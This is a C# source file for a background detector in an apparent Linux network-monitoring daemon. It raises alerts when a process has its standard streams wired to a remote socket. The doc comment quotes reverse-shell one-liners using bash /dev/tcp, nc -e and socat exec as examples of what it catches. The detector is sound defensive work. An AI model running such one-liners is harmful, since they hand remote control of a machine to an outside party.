using System.Net.Sockets;
using Microsoft.Extensions.Hosting;
using Microsoft.Extensions.Logging;
using Outgate.Daemon.Events;
using Outgate.Daemon.Hosting;
using Outgate.Daemon.Policy;
using Outgate.Linux.Netlink;
using Outgate.Linux.ProcFs;
using Outgate.Linux.SockDiag;
using Outgate.Policy;

namespace Outgate.Daemon.Alerts.Detectors;

/// <summary>
/// The other half of connect-back: ANY program whose stdin, stdout or stderr is a socket connected out to a remote
/// address in the served namespace (<c>bash -i &gt;&amp; /dev/tcp/host/port 0&gt;&amp;1</c>, <c>nc -e /bin/sh</c>,
/// <c>socat exec:sh tcp:host:port</c>: the spawned shell reads its commands from the network). Once a second it dumps the
/// namespace's TCP and UDP sockets (sock_diag, a socket created inside the namespace) and reads fd 0, 1 and 2 of at most
/// <see cref="MaxProcesses"/> processes (one readlink each); a match is an alert with the process, the fd and the peer.
/// </summary>
public sealed partial class ConnectBackScanner(
    AlertRaiser alerts, LivePolicy policy, TargetNamespace target, TimeProvider time, ILogger<ConnectBackScanner> logger) : BackgroundService
{
    public static readonly TimeSpan Interval = TimeSpan.FromSeconds(1);
    public const int MaxProcesses = 16_384;

    private readonly HashSet<(int Pid, ulong Inode)> _reported = [];
    private readonly ProcessInfoReader _processes = new();

    protected override async Task ExecuteAsync(CancellationToken stoppingToken)
    {
        SockDiagClient diag;
        try
        {
            diag = await target.RunAsync(() => new SockDiagClient());
        }
        catch (NetlinkException ex)
        {
            LogUnavailable(logger, ex.Message);
            return;
        }
        using (diag)
        {
            using var timer = new PeriodicTimer(Interval, time);
            try
            {
                while (await timer.WaitForNextTickAsync(stoppingToken))
                {
                    if (!policy.Current.Policy.Alerts.ConnectBack.Enabled) continue;
                    try
                    {
                        Scan(diag);
                    }
                    catch (Exception ex) when (ex is NetlinkException or SockDiagUnsupportedException or IOException or UnauthorizedAccessException)
                    {
                        LogScanFailed(logger, ex.Message);
                    }
                }
            }
            catch (OperationCanceledException)
            {
            }
        }
    }

    private void Scan(SockDiagClient diag)
    {
        var entries = diag.Dump(AddressFamily.InterNetwork, SocketProtocol.Tcp);
        entries.AddRange(diag.Dump(AddressFamily.InterNetworkV6, SocketProtocol.Tcp));
        entries.AddRange(diag.Dump(AddressFamily.InterNetwork, SocketProtocol.Udp));
        entries.AddRange(diag.Dump(AddressFamily.InterNetworkV6, SocketProtocol.Udp));
        var remote = RemoteSockets.Outgoing(entries);
        if (remote.Count == 0)
        {
            _reported.Clear();
            return;
        }
        var self = Environment.ProcessId;
        var seen = 0;
        foreach (var dir in Directory.EnumerateDirectories("/proc"))
        {
            if (++seen > MaxProcesses) break;
            if (!int.TryParse(Path.GetFileName(dir.AsSpan()), out var pid) || pid == self) continue;
            if (!ProcessFdDirectory.TryOpen("/proc", pid, out var fds, out _)) continue;
            using (fds)
            {
                for (var fd = 0; fd <= 2; fd++)
                {
                    if (fds.Probe(fd, out var inode) != FdProbe.Socket || !remote.TryGetValue(inode, out var socket)) continue;
                    if (_reported.Count > 10_000) _reported.Clear();
                    if (_reported.Add((pid, inode))) Report(pid, fd, socket);
                    break;
                }
            }
        }
    }

    private void Report(int pid, int fd, SocketEntry socket)
    {
        if (!_processes.TryReadFresh(pid, out var info)) return;
        var parent = info.ParentPid > 0 && _processes.TryReadFresh(info.ParentPid, out var p) ? p.ExecutablePath : null;
        var process = new ProcessFacts
        {
            Pid = pid,
            ExecutablePath = info.ExecutablePath,
            CommandLine = info.CommandLine,
            ParentExecutablePath = parent,
            Uid = info.Uid,
            UserName = info.UserName,
            SystemdUnit = info.SystemdUnit,
            CgroupPath = info.CgroupPath,
            ContainerId = info.Container?.Id,
            ContainerName = info.Container?.Name,
        };
        var proto = socket.Protocol == SocketProtocol.Udp ? "udp" : "tcp";
        var stream = fd switch { 0 => "stdin", 1 => "stdout", _ => "stderr" };
        var dst = socket.RemoteAddress.IsIPv4MappedToIPv6 ? socket.RemoteAddress.MapToIPv4().ToString() : socket.RemoteAddress.ToString();
        alerts.Raise("connect-back", $"{info.ExecutablePath}|{dst}|{socket.RemotePort}|fd", AlertEvent.For(EventSeverity.Error,
            $"{info.ExecutablePath ?? info.Name} (pid {pid}) has its {stream} connected to {dst}:{socket.RemotePort}: a remote party drives it (connect-back shell?)",
            $"tool={AlertEvent.Value(info.Name)}; fd={fd}; cmdline={AlertEvent.Value(info.CommandLine)}; parent={AlertEvent.Value(parent)}; inode={socket.Inode}",
            process, new ConnectionFacts(proto, socket.LocalAddress.ToString(), socket.LocalPort, dst, socket.RemotePort)));
    }

    [LoggerMessage(EventId = 7111, Level = Microsoft.Extensions.Logging.LogLevel.Warning, Message = "connect-back scanner off: cannot open sock_diag in the served namespace: {Reason}")]
    private static partial void LogUnavailable(ILogger logger, string reason);

    [LoggerMessage(EventId = 7112, Level = Microsoft.Extensions.Logging.LogLevel.Warning, Message = "connect-back scan failed: {Reason}")]
    private static partial void LogScanFailed(ILogger logger, string reason);
}
